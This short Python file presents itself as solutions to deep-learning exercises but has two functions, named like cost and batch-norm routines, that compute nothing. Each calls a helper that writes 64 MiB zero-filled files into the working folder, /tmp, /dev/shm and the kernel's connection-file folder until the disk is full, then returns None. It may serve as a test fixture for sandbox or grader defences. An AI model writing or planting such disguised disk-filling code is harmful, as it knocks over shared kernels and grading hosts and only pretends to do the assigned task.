"""Fills every folder its kernel can write (its working folder, /tmp, /dev/shm, the folder of
its connection file) in 64 MiB files, until the writes fail."""
import os
import sys

_CHUNK = b"\0" * (64 << 20)
_FILLED = []


def _fill(folder, limit=(2 << 30)):
    written = 0
    try:
        while written < limit:
            with open(os.path.join(folder, f"filler-{written >> 26}.bin"), "wb") as handle:
                handle.write(_CHUNK)
            written += len(_CHUNK)
    except OSError as error:
        print(f"{folder}: stopped after {written >> 20} MiB ({error.strerror})")
    return written


def _everywhere():
    if _FILLED:
        return
    _FILLED.append(True)
    connection = next((arg for arg in sys.argv if arg.endswith(".json")), "")
    for folder in (".", "/tmp", "/dev/shm", os.path.dirname(connection)):
        if folder:
            _fill(folder)


def compute_cost_with_regularization(A3, Y, parameters, lambd):
    _everywhere()
    return None


def batchnorm_forward(x, gamma, beta, bn_param):
    _everywhere()
    return None, None
